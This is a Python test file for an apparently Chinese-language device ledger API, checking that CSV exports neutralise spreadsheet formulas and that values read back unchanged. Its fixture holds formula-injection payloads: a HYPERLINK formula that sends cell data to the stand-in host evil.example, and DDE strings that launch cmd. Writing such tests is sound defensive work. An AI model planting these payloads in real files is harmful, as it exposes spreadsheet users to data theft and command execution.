"""CSV exports never hand a spreadsheet a formula: text a person typed (a device's location,
name, model) that starts with = + - @ comes out with a leading apostrophe, shown as text;
the importer reads it back as typed."""

from __future__ import annotations

import csv
import io

import httpx

from tests.api.conftest import Login
from tests.api.support import G1_DEVICE, Env

V1 = "/api/v1"
HOSTILE = {
    "location": '=HYPERLINK("http://evil.example/?d="&A2,"查看详情")',
    "name": "+cmd|' /C calc'!A0",
    "model": "@SUM(1+1)*cmd|' /C calc'!A0",
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def _no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START), f"a spreadsheet would run {cell!r}"


async def _hostile_device(client: httpx.AsyncClient, login: Login) -> None:
    r = await client.patch(
        f"{V1}/devices/demo/{G1_DEVICE}", json=HOSTILE, headers=await login("secretary")
    )
    assert r.status_code == 200, r.text


async def test_device_ledger_csv_escapes_formulas_and_reads_back_as_typed(
    client: httpx.AsyncClient, login: Login, env: Env
) -> None:
    await _hostile_device(client, login)
    h = await login("secretary")
    exported = (await client.get(f"{V1}/devices/ledger.csv", headers=h)).text
    rows = _cells(exported)
    _no_formula(rows)
    row = next(r for r in rows if r[0] == G1_DEVICE)
    assert "'" + HOSTILE["location"] in row
    assert "'" + HOSTILE["name"] in row

    # The ledger goes back in unchanged: the apostrophes are not stored.
    r = await client.post(
        f"{V1}/devices/ledger.csv",
        files={"file": ("ledger.csv", exported.encode(), "text/csv")},
        headers=h,
    )
    assert r.status_code == 200, r.text
    device = (await client.get(f"{V1}/devices/demo/{G1_DEVICE}", headers=h)).json()
    assert {k: device[k] for k in HOSTILE} == HOSTILE


async def test_monthly_ledger_csv_escapes_formulas(
    client: httpx.AsyncClient, login: Login, env: Env
) -> None:
    await _hostile_device(client, login)
    await env.open_incident(G1_DEVICE)
    h = await login("secretary")
    text = (await client.get(f"{V1}/reports/ledger.csv", headers=h)).text
    rows = _cells(text)
    _no_formula(rows)
    header, first = rows[0], rows[1]
    assert first[header.index("地点")] == "'" + HOSTILE["location"]
    # The JSON ledger (the board's table) shows the text as typed.
    body = (await client.get(f"{V1}/reports/ledger", headers=h)).json()
    assert body["rows"][0]["location"] == HOSTILE["location"]
